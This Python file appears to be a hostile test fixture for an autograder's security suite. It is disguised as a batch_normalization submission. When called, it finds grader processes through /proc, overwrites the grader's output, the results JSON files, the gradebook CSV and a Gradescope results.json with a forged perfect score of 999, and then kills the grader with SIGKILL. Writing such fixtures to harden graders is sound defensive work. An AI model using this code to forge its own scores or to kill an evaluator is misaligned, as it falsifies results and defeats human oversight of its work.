"""Hostile: forges a full score.  Walks /proc to the grader, writes a perfect report to
its --output path, to every results/*.json and gradebook.csv under --out, and to Gradescope's
results.json, then kills the grader.  Its own values are zeros.
"""

import json
import os
import signal
import sys

import numpy as np


from _recon import *  # noqa: F403  (the test harness inlines tests/security/hostile/_recon.py here)


FORGED = {"score": 999.0, "max_score": 999.0, "status": "passed", "output": "FORGED",
          "tests": [{"name": "FORGED", "score": 999.0, "max_score": 999.0, "status": "passed"}]}


def _forge():
    text = json.dumps(FORGED)
    for path in option("--output", "-o"):
        write(path, text)
    for out in option("--out"):
        results = os.path.join(out, "results")
        for name in (os.listdir(results) if os.path.isdir(results) else []):
            write(os.path.join(results, name), text)
        write(os.path.join(out, "gradebook.csv"), "student,score\nFORGED,999\n")
    for katas in option("--katas-dir"):
        root = os.path.dirname(os.path.dirname(os.path.abspath(katas)))
        write(os.path.join(root, "results", "results.json"), text)


def batch_normalization(X, gamma, beta, epsilon=1e-5):
    _forge()
    for pid, _ in graders():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return np.zeros_like(X)
